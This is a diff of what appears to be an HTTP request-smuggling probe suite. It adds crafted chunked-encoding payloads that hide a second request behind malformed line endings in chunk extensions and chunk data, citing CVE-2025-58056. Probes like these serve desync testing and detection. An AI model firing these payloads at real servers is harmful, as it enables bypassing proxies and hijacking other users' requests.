@@ -18,6 +18,9 @@ COVERED = b"Content-Length: %d\r\n" % len(END + HIDDEN)
 SIZE_LINE = b"Content-Length: %d\r\n" % len(b"%x\r\n" % len(HIDDEN))
 IN_CHUNK = b"%x\r\n" % len(HIDDEN) + HIDDEN + b"\r\n" + END
 WHOLE = START + b"Content-Length: %d\r\n" % len(SEVEN)
+# What follows a chunk size, or what may be one: it covers the hidden request for who takes it, or for who does not.
+FOR_TAKEN = b"%x\r\n" % len(END + HIDDEN) + END + HIDDEN + b"\r\n" + END
+FOR_SKIPPED = b"04\r\n%x\r\n\r\n" % len(b"\r\n" + END + HIDDEN) + END + HIDDEN + b"\r\n" + END
 IN_CHUNKS = b"%x\r\n" % len(SEVEN) + SEVEN + b"\r\n"
 UPGRADE = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: a\r\n"
 
@@ -72,9 +75,6 @@ PROBES = {
     "a request in the path": attach(b"", WHOLE.replace(b" HTTP", b"%20HTTP/1.1%0d%0aHost:%20hidden%0d%0a HTTP", 1)),
     "a line break behind a path of GET": Probe(b"GET /v2/health/ready%0a HTTP/1.1\r\nHost: digits\r\n\r\n"),
     "an extension of a chunk": chunk(IN_CHUNKS.replace(b"\r\n", b";a=b\r\n", 1) + END),
-    "a line feed in an extension (CVE-2025-58056)": chunk(
-        b"2;\nxx\r\n%x\r\n" % len(END + HIDDEN) + END + HIDDEN + b"\r\n" + END
-    ),
     "a quoted line break in an extension (CVE-2026-33870)": chunk(b'5;a="\r\nhello\r\n' + END + HIDDEN),
     "a line feed between chunks": chunk(IN_CHUNKS.replace(b"\r\n", b"\n", 1) + END),
     "a length as a trailer": chunk(IN_CHUNKS + b"0\r\nContent-Length: 50\r\n\r\n"),
@@ -106,6 +106,17 @@ PROBES = {
             "covered by a length": COVERED + b"\r\n" + END + HIDDEN,
             "covered by a chunk": SIZE_LINE + b"\r\n" + IN_CHUNK,
         }.items()
+    },
+    # A line feed in an extension is CVE-2025-58056.
+    **{
+        f"{end.decode()!r} in an extension, {way}": chunk(b"2;" + end + b"xx\r\n" + rest)
+        for end in (b"\n", b"\r", b"\rX", b"\r\r")
+        for way, rest in {"a size covers": FOR_TAKEN, "a size ends": FOR_SKIPPED}.items()
+    },
+    **{
+        f"{end.decode()!r} behind a chunk, {way}": chunk(b"5\r\nhello" + end + rest)
+        for end in (b"", b"\n", b"\r", b"\rX", b"\r\r", b"XX")
+        for way, rest in {"a size covers": FOR_TAKEN, "a size ends": FOR_SKIPPED}.items()
     },
     **{
         f"the name {name.decode()!r}": cover(COVERED, name + b": chunked\r\n")
